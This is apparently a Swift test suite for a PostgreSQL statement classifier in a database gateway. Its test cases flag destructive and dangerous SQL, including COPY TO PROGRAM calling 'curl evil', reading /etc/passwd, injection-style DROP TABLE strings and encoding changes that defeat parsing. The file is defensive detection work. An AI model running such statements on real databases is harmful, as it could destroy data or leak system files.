import GatewayPolicy
import Testing

/// The parser-based classifier, statement by statement: the kinds each is, whether it is
/// opaque, whether it would change a setting the parser depends on.
@Suite("SQL analyzer (PostgreSQL parser)")
struct SQLAnalyzerTests {
    struct Case: Sendable, CustomTestStringConvertible {
        var sql: String
        var kinds: Set<StatementKind>
        var opaque: Bool
        var unsafe: Bool
        var testDescription: String { sql }
        init(_ sql: String, _ kinds: Set<StatementKind>, opaque: Bool = false, unsafe: Bool = false) {
            self.sql = sql
            self.kinds = kinds
            self.opaque = opaque
            self.unsafe = unsafe
        }
    }

    static let writeDelete: Set<StatementKind> = [.write, .deleteWithoutWhere]
    static let writeUpdate: Set<StatementKind> = [.write, .updateWithoutWhere]

    static let cases: [Case] = [
        // Reads.
        Case("SELECT 1", []),
        Case("SELECT abalance FROM pgbench_accounts WHERE aid = 42", []),
        Case("select * from t where a in (select b from u)", []),
        Case("TABLE t", []),
        Case("VALUES (1), (2)", []),
        Case("SELECT * FROM t FOR UPDATE", []),
        Case("SELECT * FROM t FOR UPDATE OF t NOWAIT", []),
        Case("SELECT 'DELETE FROM t'", []),
        Case("SELECT $$DELETE FROM t$$", []),
        Case("SELECT $tag$ DROP TABLE t $tag$", []),
        Case("SELECT 'drop table t'", []),
        Case("SELECT \"drop\" FROM t", []),
        Case("SELECT 1 AS drop_count", []),
        Case("SELECT trunc(1.5)", []),
        Case("SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day'", []),
        Case("WITH x AS (SELECT 1) SELECT * FROM x", []),
        Case("SELECT E'\\'; DROP TABLE t; --'", []),
        Case("SHOW search_path", []),
        Case("BEGIN", []),
        Case("COMMIT", []),
        Case("ROLLBACK", []),
        Case("SAVEPOINT s", []),
        Case("LISTEN ch", []),
        Case("NOTIFY ch, 'x'", []),
        Case("DECLARE c CURSOR FOR SELECT * FROM t", []),
        Case("FETCH 10 FROM c", []),
        Case("CLOSE c", []),
        Case("EXPLAIN SELECT * FROM t", []),
        Case("SELECT * FROM generate_series(1, 10)", []),
        Case("SELECT pg_sleep(0)", []),
        Case("SET search_path = public", []),
        Case("SET statement_timeout = '5s'", []),
        Case("SET standard_conforming_strings = on", []),
        Case("SET standard_conforming_strings TO true", []),
        Case("SET client_encoding = 'UTF8'", []),
        Case("SET NAMES 'LATIN1'", []),
        Case("RESET ALL", []),
        Case("SELECT set_config('application_name', 'x', false)", []),
        Case("SELECT set_config('standard_conforming_strings', 'on', false)", []),
        Case("CALL p()", []),
        Case("LOCK TABLE t IN SHARE MODE", []),
        Case("VACUUM t", []),
        Case("ANALYZE t", []),
        // write: INSERT, UPDATE, DELETE, MERGE, COPY FROM, TRUNCATE, wherever they sit.
        Case("INSERT INTO t VALUES (1)", [.write]),
        Case("insert into t (a) select b from u", [.write]),
        Case("INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2", [.write]),
        Case("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", [.write]),
        Case("WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x", [.write]),
        Case("WITH a AS (SELECT 1), b AS (UPDATE t SET x = 1 WHERE id = 2 RETURNING *) SELECT * FROM b", [.write]),
        Case("EXPLAIN ANALYZE INSERT INTO t VALUES (1)", [.write]),
        Case("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1", [.write]),
        Case("COPY t FROM STDIN", [.write]),
        Case("COPY t (a, b) FROM STDIN WITH (FORMAT csv)", [.write]),
        Case("COPY t FROM '/tmp/data.csv'", [.write]),
        Case("COPY (SELECT 1) TO STDOUT", []),
        Case("COPY t TO STDOUT", []),
        Case("COPY t TO '/tmp/program'", []),
        Case("COPY (DELETE FROM t WHERE id = 1 RETURNING *) TO STDOUT", [.write]),
        Case("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a", [.write]),
        Case("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)", [.write]),
        Case("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", writeDelete),
        Case("MERGE INTO t USING t AS s ON true WHEN MATCHED THEN UPDATE SET a = 0", writeUpdate),
        Case("MERGE INTO t USING (SELECT 1) s ON 1 = 1 WHEN MATCHED THEN DELETE", writeDelete),
        Case("TRUNCATE t", [.write, .truncate]),
        Case("TRUNCATE TABLE t, u RESTART IDENTITY", [.write, .truncate]),
        Case("truncate only t cascade", [.write, .truncate]),
        Case("SELECT * INTO copy_of_t FROM t", []),
        // delete_without_where, including conditions that do not depend on the rows.
        Case("DELETE FROM t", writeDelete),
        Case("delete from t", writeDelete),
        Case("DELETE FROM t WHERE id = 1", [.write]),
        Case("DELETE FROM ONLY t WHERE id = 1", [.write]),
        Case("DELETE FROM t WHERE CURRENT OF c", [.write]),
        Case("DELETE FROM t USING u WHERE t.id = u.id", [.write]),
        Case("DELETE FROM t USING (SELECT id FROM u WHERE x) s", writeDelete),
        Case("DELETE FROM t RETURNING *", writeDelete),
        Case("DELETE /* where */ FROM t -- where", writeDelete),
        Case("DELETE FROM t AS \"where\"", writeDelete),
        Case("DELETE FROM t WHERE note = 'x'", [.write]),
        Case("DELETE FROM \"where\"", writeDelete),
        Case("DELETE FROM t WHERE true", writeDelete),
        Case("DELETE FROM t WHERE TRUE", writeDelete),
        Case("DELETE FROM t WHERE 1 = 1", writeDelete),
        Case("DELETE FROM t WHERE 'a' = 'a'", writeDelete),
        Case("DELETE FROM t WHERE 1 < 2", writeDelete),
        Case("DELETE FROM t WHERE NOT false", writeDelete),
        Case("DELETE FROM t WHERE now() IS NOT NULL", writeDelete),
        Case("DELETE FROM t WHERE random() < 2", writeDelete),
        Case("DELETE FROM t WHERE id = id", writeDelete),
        Case("DELETE FROM t WHERE t.id = t.id", writeDelete),
        Case("DELETE FROM t WHERE id IS NOT DISTINCT FROM id", writeDelete),
        Case("DELETE FROM t WHERE id = 1 OR true", writeDelete),
        Case("DELETE FROM t WHERE true OR id = 1", writeDelete),
        Case("DELETE FROM t WHERE id = 1 AND true", [.write]),
        Case("DELETE FROM t WHERE (1 = 1) AND (2 = 2)", writeDelete),
        Case("DELETE FROM t WHERE EXISTS (SELECT 1)", writeDelete),
        Case("DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.x = 1)", writeDelete),
        Case("DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)", [.write]),
        Case("DELETE FROM t x WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = x.id)", [.write]),
        Case("DELETE FROM t WHERE id IN (SELECT tid FROM u)", [.write]),
        Case("DELETE FROM t WHERE (SELECT count(*) FROM u) > 0", writeDelete),
        Case("DELETE FROM t WHERE id > 0", [.write]),
        Case("DELETE FROM t WHERE id = $1", [.write]),
        Case("WITH gone AS (DELETE FROM t RETURNING id) SELECT count(*) FROM gone WHERE id > 0", writeDelete),
        Case("WITH gone AS (DELETE FROM t WHERE old RETURNING id) SELECT * FROM gone", [.write]),
        Case("EXPLAIN ANALYZE DELETE FROM t", writeDelete),
        Case("CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE)", [.ddl]),
        Case("GRANT DELETE ON t TO bob", [.grant]),
        // update_without_where.
        Case("UPDATE t SET a = 1", writeUpdate),
        Case("UPDATE t SET a = 1 WHERE id = 2", [.write]),
        Case("UPDATE ONLY public.t AS x SET a = 1", writeUpdate),
        Case("UPDATE t SET a = (SELECT 1 WHERE true)", writeUpdate),
        Case("UPDATE t SET a = u.b FROM u WHERE t.id = u.id", [.write]),
        Case("UPDATE \"T\" SET \"where\" = 1", writeUpdate),
        Case("UPDATE t SET a = 1 WHERE 2 > 1", writeUpdate),
        Case("UPDATE t SET a = 1 WHERE a = a", writeUpdate),
        Case("UPDATE t SET a = 1 WHERE a = 2 OR 1 = 1", writeUpdate),
        Case("WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x WHERE a = 1", writeUpdate),
        // drop and ddl.
        Case("DROP TABLE t", [.drop, .ddl]),
        Case("drop table if exists t cascade", [.drop, .ddl]),
        Case("DROP SCHEMA s", [.drop, .ddl]),
        Case("DROP DATABASE d", [.drop, .ddl]),
        Case("DROP ROLE r", [.drop, .ddl]),
        Case("DROP OWNED BY app", [.drop, .ddl]),
        Case("DROP OWNED BY CURRENT_USER CASCADE", [.drop, .ddl]),
        Case("DROP INDEX CONCURRENTLY i", [.drop, .ddl]),
        Case("DROP VIEW v", [.drop, .ddl]),
        Case("DROP TABLESPACE ts", [.drop, .ddl]),
        Case("ALTER TABLE t DROP COLUMN c", [.drop, .ddl]),
        Case("ALTER TABLE t DROP c", [.drop, .ddl]),
        Case("ALTER TABLE t ALTER COLUMN c DROP DEFAULT", [.ddl]),
        Case("ALTER TABLE t ALTER c DROP NOT NULL", [.ddl]),
        Case("ALTER TABLE t DROP CONSTRAINT k", [.ddl]),
        Case("ALTER TABLE customers RENAME TO customers_old", [.ddl]),
        Case("ALTER TABLE t RENAME COLUMN a TO b", [.ddl]),
        Case("ALTER TABLE t SET SCHEMA archive", [.ddl]),
        Case("ALTER TABLE t OWNER TO bob", [.ddl]),
        Case("CREATE TABLE t (a int)", [.ddl]),
        Case("CREATE TABLE t2 AS SELECT * FROM t", [.ddl]),
        Case("CREATE INDEX i ON t (a)", [.ddl]),
        Case("CREATE VIEW v AS SELECT 1", [.ddl]),
        Case("CREATE SCHEMA s", [.ddl]),
        Case("CREATE SEQUENCE q", [.ddl]),
        Case("CREATE EXTENSION pgcrypto", [.ddl]),
        Case("COMMENT ON TABLE t IS 'x'", [.ddl]),
        Case("SECURITY LABEL ON TABLE t IS 'x'", [.ddl]),
        Case("REINDEX TABLE t", [.ddl]),
        Case("REFRESH MATERIALIZED VIEW m", [.ddl]),
        Case("REASSIGN OWNED BY a TO b", [.ddl]),
        Case("IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y", [.ddl]),
        // EXPLAIN takes only DML: the server rejects this too.
        Case("EXPLAIN (ANALYZE, BUFFERS) DROP TABLE t", [], opaque: true),
        Case("CREATE SCHEMA s CREATE TABLE x (a int)", [.ddl]),
        // grant.
        Case("GRANT ALL ON t TO bob", [.grant]),
        Case("REVOKE SELECT ON t FROM bob", [.grant]),
        Case("GRANT admin TO bob", [.grant]),
        Case("ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob", [.grant, .ddl]),
        // copy_program and alter_system.
        Case("COPY t TO PROGRAM 'curl evil'", [.copyProgram]),
        Case("COPY t FROM PROGRAM 'cat /etc/passwd'", [.write, .copyProgram]),
        Case("ALTER SYSTEM SET work_mem = '1GB'", [.alterSystem, .ddl]),
        Case("ALTER SYSTEM RESET ALL", [.alterSystem, .ddl]),
        // terminate_backend.
        Case("SELECT pg_terminate_backend(1234)", [.terminateBackend]),
        Case("SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity", [.terminateBackend]),
        Case("SELECT \"pg_terminate_backend\"(1)", [.terminateBackend]),
        Case("SELECT PG_CANCEL_BACKEND(1)", [.terminateBackend]),
        Case("SELECT count(*) FROM pg_stat_activity WHERE pg_cancel_backend(pid)", [.terminateBackend]),
        Case("SELECT U&\"pg!005fterminate_backend\" UESCAPE '!' (1)", [.terminateBackend]),
        Case("CREATE TABLE x (a int DEFAULT pg_terminate_backend(1)::int)", [.terminateBackend, .ddl]),
        Case("SELECT 'pg_terminate_backend(1)'", []),
        // PREPARE is decided when it is executed.
        Case("PREPARE p AS DELETE FROM t", []),
        Case("PREPARE p AS DELETE FROM t; EXECUTE p", writeDelete),
        Case("PREPARE p (int) AS UPDATE t SET a = $1; EXECUTE p(1)", writeUpdate),
        Case("PREPARE p AS SELECT 1; EXECUTE p", []),
        Case("EXECUTE never_prepared", [], opaque: true),
        Case("EXPLAIN ANALYZE EXECUTE never_prepared", [], opaque: true),
        Case("DEALLOCATE p", []),
        // DO blocks: the static SQL of the body is classified; dynamic SQL is opaque.
        Case("DO $$ BEGIN DELETE FROM t; END $$", writeDelete),
        Case("DO $body$ BEGIN EXECUTE 'DROP TABLE t'; END $body$", [.drop, .ddl]),
        Case("DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE t'; END $$", [.drop, .ddl]),
        Case("DO $$ BEGIN EXECUTE 'DR' || chr(79) || 'P TABLE t'; END $$", [], opaque: true),
        Case("DO $$ DECLARE q text := 'DROP TABLE t'; BEGIN EXECUTE q; END $$", [], opaque: true),
        Case("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$", [], opaque: true),
        Case("DO $$ BEGIN EXECUTE 'SELECT 1'; END $$", []),
        Case("DO LANGUAGE plpgsql $$ BEGIN TRUNCATE t; END $$", [.write, .truncate]),
        Case("DO 'BEGIN EXECUTE ''TRUNCATE t''; END'", [.write, .truncate]),
        Case("DO $$ BEGIN PERFORM pg_terminate_backend(1); END $$", [.terminateBackend]),
        Case("DO $$ DECLARE n int; BEGIN n := (SELECT count(*) FROM pg_terminate_backend(1)); END $$", [.terminateBackend]),
        Case("DO $$ BEGIN IF pg_cancel_backend(1) THEN RAISE NOTICE 'x'; END IF; END $$", [.terminateBackend]),
        Case("DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$", []),
        Case("DO $$ DECLARE r record; s text; BEGIN FOR r IN EXECUTE s LOOP END LOOP; END $$", [], opaque: true),
        // Without a catalog the PL/pgSQL parser cannot type a refcursor: opaque, not guessed.
        Case("DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'DELETE FROM t'; END $$", [], opaque: true),
        Case("DO $$ DECLARE c refcursor; s text; BEGIN OPEN c FOR EXECUTE s; END $$", [], opaque: true),
        Case("DO $$ BEGIN INSERT INTO log VALUES (1); UPDATE t SET a = 1; END $$", writeUpdate),
        Case("DO $$ BEGIN BEGIN DELETE FROM t WHERE id = 1; EXCEPTION WHEN others THEN DELETE FROM t; END; END $$", writeDelete),
        Case("DO $$ BEGIN EXECUTE 'DO $x$ BEGIN DROP TABLE t; END $x$'; END $$", [.drop, .ddl]),
        Case("DO $$ BEGIN EXECUTE 'EXECUTE p'; END $$", [], opaque: true),
        Case("DO LANGUAGE plpython3u $$ plpy.execute('DROP TABLE t') $$", [], opaque: true),
        Case("DO $$ this is not plpgsql $$", [], opaque: true),
        Case("DO $gateway0$ BEGIN DELETE FROM t; END $gateway0$", writeDelete),
        Case("DO $$ BEGIN SET standard_conforming_strings = off; END $$", [], unsafe: true),
        Case("DO $$ BEGIN PERFORM set_config('standard_conforming_strings', 'off', false); END $$", [], unsafe: true),
        // Code that runs later: functions, procedures, triggers, rules, event triggers.
        Case("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", [.ddl], opaque: true),
        Case("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'", [.ddl, .write, .deleteWithoutWhere], opaque: true),
        Case("CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$", [.ddl, .drop], opaque: true),
        Case("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DR' || 'OP TABLE t'; END $$", [.ddl, .drop], opaque: true),
        Case("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END", [.ddl, .write, .deleteWithoutWhere], opaque: true),
        Case("CREATE PROCEDURE p() LANGUAGE sql AS $$ TRUNCATE t $$", [.ddl, .write, .truncate], opaque: true),
        Case("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'", [.ddl], opaque: true),
        Case("CREATE TRIGGER x BEFORE UPDATE OF a ON t FOR EACH ROW EXECUTE FUNCTION f()", [.ddl], opaque: true),
        Case("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u", [.ddl, .write, .deleteWithoutWhere], opaque: true),
        Case("CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1", [.ddl], opaque: true),
        Case("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", [.ddl], opaque: true),
        Case("ALTER EVENT TRIGGER e ENABLE", [.ddl], opaque: true),
        Case("CREATE OPERATOR !!! (PROCEDURE = pg_terminate_backend, RIGHTARG = int)", [.ddl], opaque: true),
        Case("CREATE AGGREGATE a (int) (SFUNC = f, STYPE = int)", [.ddl], opaque: true),
        Case("CREATE CAST (int AS text) WITH FUNCTION f(int)", [.ddl], opaque: true),
        Case("ALTER FUNCTION f() SECURITY DEFINER", [.ddl], opaque: true),
        Case("SELECT dblink_exec('dbname=x', 'DROP TABLE t')", [], opaque: true),
        Case("SELECT * FROM dblink('dbname=x', 'SELECT 1') AS r(a int)", [], opaque: true),
        // Text the parser rejects: opaque when it holds a word a decided construct needs.
        Case("DROP TABLE", [], opaque: true),
        Case("DELETE t", [], opaque: true),
        Case("SELEC 1", []),
        Case("SELECT 'unterminated", []),
        Case("SELECT 1; DROP TABLE t WITH GARBAGE", [], opaque: true),
        Case("SELECT 1; SELEC 2; DROP TABLE", [], opaque: true),
        Case("SELECT 1; DELETE FROM t; SELEC 2", writeDelete),
        // Settings the parser depends on.
        Case("SET standard_conforming_strings = off", [], unsafe: true),
        Case("SET standard_conforming_strings TO 'off'", [], unsafe: true),
        Case("SET standard_conforming_strings = 0", [], unsafe: true),
        Case("SET standard_conforming_strings = false", [], unsafe: true),
        Case("SET LOCAL standard_conforming_strings = no", [], unsafe: true),
        Case("SET SESSION standard_conforming_strings = of", [], unsafe: true),
        Case("SET standard_conforming_strings = on, off", [], unsafe: true),
        Case("SELECT set_config('standard_conforming_strings', 'off', false)", [], unsafe: true),
        Case("SELECT set_config('Standard_Conforming_Strings', 'off', true)", [], unsafe: true),
        Case("SELECT set_config(name, 'off', false) FROM (VALUES ('standard_conforming_strings')) v(name)", [], unsafe: true),
        Case("SELECT set_config('client_encoding', 'SJIS', false)", [], unsafe: true),
        Case("SET client_encoding = 'SJIS'", [], unsafe: true),
        Case("SET client_encoding TO 'shift_jis'", [], unsafe: true),
        Case("SET NAMES 'BIG5'", [], unsafe: true),
        Case("SET client_encoding = 'GBK'", [], unsafe: true),
        Case("SET client_encoding = 'gb18030'", [], unsafe: true),
        Case("SET client_encoding = 'WIN936'", [], unsafe: true),
        Case("SET client_encoding = 'UHC'", [], unsafe: true),
        Case("SET client_encoding = 'johab'", [], unsafe: true),
        Case("SET client_encoding = 'Shift-JIS-2004'", [], unsafe: true),
        Case("ALTER ROLE app SET standard_conforming_strings = off", [.ddl], unsafe: true),
        Case("ALTER DATABASE d SET client_encoding = 'SJIS'", [.ddl], unsafe: true),
        Case("ALTER SYSTEM SET standard_conforming_strings = off", [.alterSystem, .ddl], unsafe: true),
        Case("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET standard_conforming_strings = off AS 'SELECT 1'", [.ddl], opaque: true, unsafe: true),
    ]

    @Test("kinds, opaque and settings", arguments: cases)
    func classify(_ testCase: Case) {
        let findings = SQLAnalyzer.analyze(testCase.sql).reduce(into: SQLFindings()) { $0.formUnion($1.findings) }
        #expect(findings.kinds == testCase.kinds)
        #expect(!findings.opaque.isEmpty == testCase.opaque, "\(findings.opaque)")
        #expect(!findings.unsafeSettings.isEmpty == testCase.unsafe, "\(findings.unsafeSettings)")
    }

    @Test func multiStatementSecondIsCaught() {
        let statements = SQLAnalyzer.analyze("SELECT 1; /* x */ DROP TABLE t")
        #expect(statements.map(\.text) == ["SELECT 1", "/* x */ DROP TABLE t"])
        #expect(statements[0].findings.kinds.isEmpty)
        #expect(statements[1].findings.kinds.contains(.drop))
    }

    @Test func aRejectedStatementDoesNotHideTheOthers() {
        let statements = SQLAnalyzer.analyze("SELECT 1; DELETE FROM t; SELEC 2")
        #expect(statements.count == 3)
        #expect(statements[1].findings.kinds == Self.writeDelete)
    }

    @Test func preparedStatementsAreDecidedAsTheyRun() {
        var session = SQLSession()
        for statement in SQLAnalyzer.analyze("PREPARE wipe AS DELETE FROM t", session: session) {
            for prepared in statement.prepares { session.prepare(prepared.name, prepared.findings) }
        }
        #expect(SQLAnalyzer.analyze("EXECUTE wipe", session: session)[0].findings.kinds == Self.writeDelete)
        #expect(SQLAnalyzer.analyze("CREATE TABLE x AS EXECUTE wipe", session: session)[0].findings.kinds.isSuperset(of: Self.writeDelete))
        // A second PREPARE of the name fails at the server and leaves the first: the
        // session keeps both.
        for statement in SQLAnalyzer.analyze("PREPARE wipe AS SELECT 1", session: session) {
            for prepared in statement.prepares { session.prepare(prepared.name, prepared.findings) }
        }
        #expect(SQLAnalyzer.analyze("EXECUTE wipe", session: session)[0].findings.kinds == Self.writeDelete)
    }

    @Test func copyToClientIsFound() {
        #expect(SQLAnalyzer.analyze("COPY t TO STDOUT")[0].findings.copiesToClient)
        #expect(SQLAnalyzer.analyze("COPY (SELECT email FROM c) TO STDOUT WITH CSV")[0].findings.copiesToClient)
        #expect(!SQLAnalyzer.analyze("COPY t FROM STDIN")[0].findings.copiesToClient)
        #expect(!SQLAnalyzer.analyze("SELECT 'COPY t TO STDOUT'")[0].findings.copiesToClient)
    }

    @Test func deepNestingIsOpaqueNotACrash() {
        func quoted(_ text: String) -> String { "'" + text.split(separator: "'", omittingEmptySubsequences: false).joined(separator: "''") + "'" }
        var body = "DROP TABLE t"
        for _ in 0..<10 { body = "DO " + quoted("BEGIN EXECUTE " + quoted(body) + "; END") }
        let findings = SQLAnalyzer.analyze(body)[0].findings
        #expect(!findings.opaque.isEmpty || findings.kinds.contains(.drop))
        let deep = String(repeating: "(", count: 5_000) + "1" + String(repeating: ")", count: 5_000)
        _ = SQLAnalyzer.analyze("SELECT " + deep)
    }
}
